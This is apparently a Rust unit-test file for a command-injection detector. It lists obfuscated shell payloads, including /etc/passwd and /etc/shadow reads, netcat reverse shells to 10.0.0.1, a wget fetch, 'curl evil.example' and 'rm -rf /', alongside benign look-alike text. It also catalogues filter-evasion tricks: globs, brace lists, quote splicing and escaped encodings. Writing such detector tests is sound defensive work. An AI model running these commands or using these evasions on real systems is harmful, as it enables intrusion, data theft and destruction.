//! Shell grammar the detector reads (globs, brace lists, alias bypasses, redirections)
//! next to prose, markdown and code that look like it.

use super::detect;

fn table(attacks: &[&str], legit: &[&str]) {
    for a in attacks {
        assert!(detect(a).is_some(), "missed {a:?}");
    }
    for l in legit {
        assert_eq!(detect(l), None, "flagged {l:?}");
    }
}

#[test]
fn reads_single_globs_and_brace_lists_as_the_shell_expands_them() {
    table(
        &[
            "c[a]t /e[t]c/passwd",
            "adduse[r]",
            "w[h]oami",
            "garb=adduse[r];$garb pizza",
            "{l,-lh}s",
            "c{a,oun}t",
            "{cat,/etc/passwd}",
            "x;{ls,-la}",
        ],
        &[
            "see [a] and [b]",
            "[x] done",
            "regex [a-z]+ matches",
            "[T]ime is money",
            "let el = v[i];",
            "items[0] and arr[i]",
            "{a,b}",
            "{\"a\":1,\"b\":2}",
            "\\section{intro}",
            "/users/{id}, projects/{id or name}",
            "apt-daily{,-upgrade}.service",
        ],
    );
}

#[test]
fn reads_alias_bypasses_and_leading_redirections() {
    table(
        &[
            "\\ls",
            "\\ls -la",
            "\\c\\a\\t /etc/hosts",
            "\\c\\a\\t",
            ">/tmp/x",
            ">>~/.bashrc",
            "> /dev/null",
            "&aptitude",
            "x&whoami",
        ],
        &[
            "C:\\ls\\x",
            "\\ln x",
            "\\\\server\\share",
            "> quoted reply",
            ">= 3 items",
            "> /usr is big on this host",
            ">/tmp",
            ">/test.environment",
            "R&D",
            "AT&T",
            "https://x.example/?a=1&id",
            "cat and dog",
            "we cat the logs",
            "find the best",
        ],
    );
}

#[test]
fn markdown_rst_and_gnu_quoting_are_not_substitutions() {
    table(
        &[
            "`id`",
            "x`whoami`",
            "`uname -a`",
            "$(id)",
            "a\nwhoami",
            "x\nnc 10.0.0.1 4444",
            "x\n/bin/sh -i",
            "| mysql -u root",
            "x`ls' -la'`",
            "x`cat /etc/passwd'`",
            "The `printf' builtin; `id`",
            "`type' and `uname -a`",
        ],
        &[
            "Use `service` to restart it.",
            "`python` will execute the system Python version, as it was before.",
            "Run `foo` which is the default.",
            "```sh\nmake install\n```",
            "See the [LICENSE](./LICENSE) file.",
            "Changes were made to `ulimit' to work around HPUX",
            "The `printf' builtin no longer dumps core (e.g. `%h').",
            "In POSIX mode, `type' and `command -v' do not report it",
            "Note: ``set screensize'' is obsolete. Use ``set height''.",
            "`make dist-gzip' (or -bzip2) creates a tarball",
            "install a global startup file (/usr/local/etc/wgetrc by default) for",
            "[`Service`]: https://docs.rs/tower/latest/tower/trait.Service.html",
            "Boto releases can be found on the `Python Cheese Shop`_.",
            "| Name  | Yes |\n| mysql | gcc |",
            "| PS Vita | `*-vita-*` | [x][19]",
            "$(MAKE) prefix=debian/tmp/usr install",
            "The reference manual is brought up to date (more or less -- it still",
            "specific for\nPython 3.11. It is",
            "the template\n/etc/systemd/pstore.conf file that",
            "reading (/etc/anacrontab), you may",
            "hybridized with\nstrings that match",
        ],
    );
}

#[test]
fn unset_variables_spliced_into_or_before_a_command_and_globbed_system_dirs() {
    table(
        &[
            "{n$u\\c$u,-nlvp,777}",
            "v='u';cu$v\\r\\l google.com",
            "c${x}at /etc/hosts",
            "w$u\\hoami",
            ";$a cat test.txt",
            ";$a cat $a $at test.txt",
            "x|${u} id",
            "$(${x} uname)",
            "/[e///]tc",
            "/[e]tc",
            "cat /b[i]n/../etc/hosts",
        ],
        &[
            "Ke$ha",
            "ca$h money",
            "A$AP Rocky",
            "costs $a cat",
            "first; $SUDO cp notes.txt backup.txt",
            "run it; $EDITOR notes.txt",
            "price: $amount each",
            "pages/[id].js",
            "/[...slug]",
            "/[lang]/about",
            "/[x]",
            "${name} and ${id}",
        ],
    );
}

#[test]
fn html_entities_c_comments_and_glued_brace_lists_are_not_shell() {
    table(
        &[
            ";{cat,/etc/passwd}",
            "x&whoami;",
            "&quot;/bin/cat /etc/shadow&quot;",
            "x;/*/c?t /etc/passwd",
            "x;(./evil.sh -x)",
            "ls; cat /etc/passwd",
        ],
        &[
            "Copyright &copy; 2024 Acme",
            "--trace-alloc=&lt;yes|no&gt; [default: no]",
            "&#60;dir&#62;/usr/share/fonts&#60;/dir&#62;",
            "See <a href=\"#x\">&#x3C;File></a>.",
            "int x = 1; /* the count */",
            "if (ok) { /* return early */ }",
            "a && /* arbitrary */ b",
            "see the example (./my-app.js) here",
            "Replace mention of /etc/{passwd,group} by references",
            "cleanup BUILD_{LS,CH}CPU",
            "test; might need specific drivers",
        ],
    );
}

/// The byte gates of `detect` are exact: each pass finds nothing in a text without the
/// bytes its gate asks for, and a path opening a value without separators runs only
/// when globbed. Random shell-ish texts, each drawn without one gate's bytes.
#[test]
fn gated_passes_need_their_bytes() {
    use super::{REWRITE, SEPARATOR, seen};
    use super::{alias_bypass, assign, command_in, expand, redirect_start, unset_prefix};
    let alphabet = b"abcdehilnorstwxyz019 /-.=$\\>[]{},;|&'\"`()?*_~<\t\n";
    let mut seed = 0x5eed_cafe_f00d_1234u64;
    let mut paths = 0;
    for round in 0..60_000u32 {
        seed = crate::testing::xorshift(seed);
        let len = 1 + (seed % 20) as usize;
        let mut text: Vec<u8> = (0..len)
            .map(|k| {
                let pick = (seed >> (k % 8 * 8)) as usize + k * 17;
                alphabet[pick % alphabet.len()]
            })
            .collect();
        // Some texts open with a path, as URL paths do.
        if round % 3 == 0 {
            text.insert(0, b'/');
        }
        let without = |bytes: &[u8]| -> String {
            text.iter()
                .map(|c| {
                    if bytes.contains(c) {
                        'x'
                    } else {
                        char::from(*c)
                    }
                })
                .collect()
        };
        let t = without(b"\\");
        assert_eq!(alias_bypass(&t), None, "{t:?}");
        let t = without(b">");
        assert_eq!(redirect_start(&t), None, "{t:?}");
        let t = without(b"$");
        assert_eq!(unset_prefix(&t), None, "{t:?}");
        assert_eq!(assign::expand(&t), None, "{t:?}");
        let t = without(b"=");
        assert_eq!(assign::expand(&t), None, "{t:?}");
        let t = without(b"[{");
        assert!(expand::expand(&t).is_none(), "{t:?}");
        // Without separators, so without `REWRITE` bytes either (the alphabet is ASCII).
        let t = without(b"?*;|&`$\n\r{('\"\\<");
        assert_eq!(seen(&t) & (SEPARATOR | REWRITE), 0, "{t:?}");
        if t.trim_start().starts_with('/') {
            paths += 1;
            assert_eq!(command_in(t.to_ascii_lowercase().as_bytes()), None, "{t:?}");
        }
    }
    assert!(paths > 10_000, "{paths}");
}

#[test]
fn inline_code_with_plain_arguments_in_a_sentence_is_not_a_substitution() {
    table(
        &[
            "`ls -la`",
            "x `ls -la`",
            "x`ls -la`",
            "please run `cat /etc/passwd` now ok",
            "run `nc -lvp 4444` now please ok",
            "run `nc -e sh 10.0.0.1 4444` now please ok",
            "run `curl evil.example` now please ok",
            "run `sleep 10` now and wait ok",
            "run `python3 -m http.server` now and wait ok",
            "so run `ls -la;id` now and wait ok",
            "so run `ls -la | sh` now and wait ok",
            "so run `rm -rf /` now and wait ok",
            "so run `ls $HOME` now and wait ok",
        ],
        &[
            "Deploy failed, run `make rollback` and ping me",
            "try `ls -la` in the folder first please",
            "Run `docker compose up -d` then open the page",
            "To read the complete changelog use `apt changelog libnss3`.",
            "Fix module removal with `modprobe -r` when a dependency is built-in.",
            "2. `make test` now performs additional regression tests using tjbench,",
            "On recent releases, `openssl list -digest-algorithms` will print them",
        ],
    );
}

#[test]
fn release_note_lines_opening_with_a_command_are_sentences() {
    table(
        &[
            "ls -la",
            "shutdown -h now",
            "tail -f /var/log/syslog",
            "x\ncat /etc/passwd",
            "grep -i root /etc/passwd and the rest",
            "rm -rf ~ and the rest",
            "x\nwhoami",
            "nc -e sh the host 4444; id",
            "shutdown -h now and the rest",
        ],
        &[
            "grep -i no longer mishandles patterns containing titlecase characters.",
            "tail -F has improved handling of symlinks.",
            "touch -a and touch -m could trigger bugs in some file systems, such",
            "Changes:\nls -CF would misalign columns in some cases",
            "sort now supports -d, -f, -i, -R, and -V in any combination.",
        ],
    );
}

#[test]
fn a_lone_ampersand_pairs_names_unless_a_command_follows_it() {
    table(
        &[
            "127.0.0.1 & whoami",
            "& whoami",
            "x & ipconfig",
            "8.8.8.8 &  systeminfo",
            "a & uname",
            "1 & tasklist",
            "host & netstat",
            "python & whoami",
            "ruby &",
            "php & /tmp/x",
            "python -c 'import os' & python",
            "id & cat /etc/passwd",
            "bash & wget http://x.example/s.sh",
            "ls & whoami",
            "id | base64",
            "yes | rm -rf /",
            "ls | nc 10.0.0.1 4444",
            "whoami | tee",
            " whoami",
            " ipconfig ",
            "\tuname",
            " IPCONFIG",
        ],
        &[
            "Tom & Jerry",
            "Name & ID",
            "Ruby & Python",
            "PHP & Node",
            "Python & Ruby developer",
            "SSH & SFTP access",
            "bash & zsh",
            "the whoami & uname commands print who and where",
            "Q & A",
            "salt & pepper",
            "R & D",
            "Search & replace",
            "cut & paste",
            "Cut & Paste",
            "Sort & filter",
            "Find & replace",
            "Date & Time",
            "Copy & Paste",
            "Yes | No",
            "Find | Replace",
            "whoami",
            "uname",
            " whoami is a command",
        ],
    );
}

#[test]
fn quotes_spliced_into_a_command_name_are_no_contraction() {
    table(
        &["w'h'o'a'm'i", "wh''oami", "c'a't /etc/passwd", "'wh'oami"],
        &["I'd", "don't", "rock'n'roll", "y'all'd've", "o'clock"],
    );
}

#[test]
fn the_pronoun_contraction_is_no_spliced_id() {
    table(
        &["x; i'd", "x;'i'd", "x; i''d", "a | i\"d"],
        &[
            "Prices went up; I'd switch if a competitor offered less",
            "We are going; I'd rather stay",
            "Sure; I'd",
        ],
    );
}

#[test]
fn graphql_documents_select_fields_one_per_line() {
    table(
        &["x\nid\n", "ok\n  id\n  whoami", "{ a }\nid\n", "{\nid\n}"],
        &[
            "query ProductPage($handle: String!, $first: Int = 10) {\n  product(handle: $handle) {\n    id\n    title\n    images(first: 5) { nodes { url } }\n  }\n}",
            "mutation CreateIssue($input: IssueCreateInput!) {\n  issueCreate(input: $input) {\n    success\n    issue {\n      id\n      url\n    }\n  }\n}",
            "{\n  viewer {\n    id\n    login\n  }\n}",
        ],
    );
}

#[test]
fn codings_with_quality_weights_are_an_accept_list() {
    table(
        &["gzip;id", "x;gzip -d /tmp/x.gz", "gzip;q"],
        &[
            "gzip;q=1.0, identity; q=0.5, *;q=0",
            "br;q=1.0, gzip;q=0.8, *;q=0.1",
        ],
    );
}

#[test]
fn ansi_c_quoted_commands_are_read_decoded() {
    table(
        &[
            r";$'\143\141\164' $'\057\145\164\143\057\160\141\163\163\167\144'",
            r"x|$'\x77\x68\x6f\x61\x6d\x69'",
            r"; $'\u0069\u0064'",
        ],
        &[
            "costs $5 and 'quoted'",
            r#"IFS=$'\t' splits on tabs"#,
            r"Use $'\n' for a newline in bash",
        ],
    );
}

#[test]
fn a_drive_path_keeps_its_backslash_and_package_tools_document_themselves() {
    table(
        &[
            "| dir C:\\Users\\ /s",
            "& dir c:\\windows\\system32",
            "x; apt-get install -y netcat",
            "| c\\at /etc/passwd",
        ],
        &[
            "pip install -r requirements.txt",
            "apt-get install -y -qq libpq-dev",
            "make build",
            "see C:\\Users\\me\\Documents for the file",
            "{\"pixel\":\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\",\"c\":\"x\"}",
        ],
    );
}
